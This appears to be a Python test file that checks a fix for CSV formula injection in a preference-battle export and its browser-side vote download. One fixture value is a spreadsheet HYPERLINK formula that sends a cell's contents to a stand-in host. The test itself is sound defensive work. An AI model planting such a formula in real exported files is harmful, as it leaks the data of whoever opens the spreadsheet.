"""Issue 23, Low: ``battles/pairs.csv`` and the page's vote download wrote cells starting with
``=``, ``+``, ``-``, ``@``, tab or CR raw, which a spreadsheet runs as a formula. They get a
leading apostrophe, as spreadsheets expect, and read back as they were."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

from corpus_audit.methods.preferences import battles

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def test_pairs_csv_cells_that_start_like_a_formula_are_prefixed_and_round_trip(tmp_path):
    pairs = pd.DataFrame(
        [
            {
                "item": 1,
                "pair_id": "p1",
                "prompt_id": "@SUM(A1)",
                "prompt_text": HOSTILE,
                "model_a": "+model",
                "model_b": "-model",
                "image_a": "\timg-a",
                "image_b": "img-b",
                "path_a": "a.png",
                "path_b": "b.png",
            }
        ],
        columns=list(battles.PAIR_COLUMNS),
    )
    path = battles.write_pairs(pairs, tmp_path / "pairs.csv")
    with Path(path).open(encoding="utf-8", newline="") as fh:
        header, row = list(csv.reader(fh))
    cells = dict(zip(header, row, strict=True))
    for column in ("prompt_id", "prompt_text", "model_a", "model_b", "image_a"):
        assert cells[column].startswith("'"), column
    assert cells["image_b"] == "img-b" and cells["item"] == "1"
    back = battles.read_pairs(path)
    assert back.loc[0, "prompt_text"] == HOSTILE
    assert back.loc[0, "model_a"] == "+model" and back.loc[0, "model_b"] == "-model"
    assert back.loc[0, "prompt_id"] == "@SUM(A1)" and back.loc[0, "image_a"] == "\timg-a"


TEMPLATES = Path(__file__).parents[2] / "corpus_audit" / "report" / "templates"


def test_the_vote_download_prefixes_formula_cells():
    template = (TEMPLATES / "battles.html.j2").read_text(encoding="utf-8")
    body = template[template.index("function csvCell") :]
    body = body[: body.index("}\n")]
    assert "/^[=+\\-@\\t\\r]/.test(v)" in body and '"\'" + v' in body
